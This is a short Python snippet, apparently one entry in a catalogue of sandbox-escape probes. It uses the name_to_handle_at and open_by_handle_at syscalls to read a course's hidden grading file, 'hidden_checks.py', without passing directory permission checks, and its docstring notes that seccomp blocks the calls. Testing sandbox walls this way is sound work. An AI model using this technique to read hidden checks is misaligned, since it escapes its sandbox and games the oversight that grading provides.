"""Opens a file by its handle, which asks no folder on the way.

stopped by: seccomp: name_to_handle_at, open_by_handle_at
without walls: works for root
"""
# %%
import ctypes, os

libc = ctypes.CDLL(None, use_errno=True)
handle = ctypes.create_string_buffer((128).to_bytes(4, "little"), 136)
mount = ctypes.c_int()
path = COURSE + "/solutions/tiny/hidden_checks.py"
libc.name_to_handle_at(-100, path.encode(), handle, ctypes.byref(mount), 0)
descriptor = libc.open_by_handle_at(os.open(".", os.O_RDONLY), handle, os.O_RDONLY)
print(os.strerror(ctypes.get_errno()))
if descriptor >= 0:
    print(os.pread(descriptor, 2000, 0))
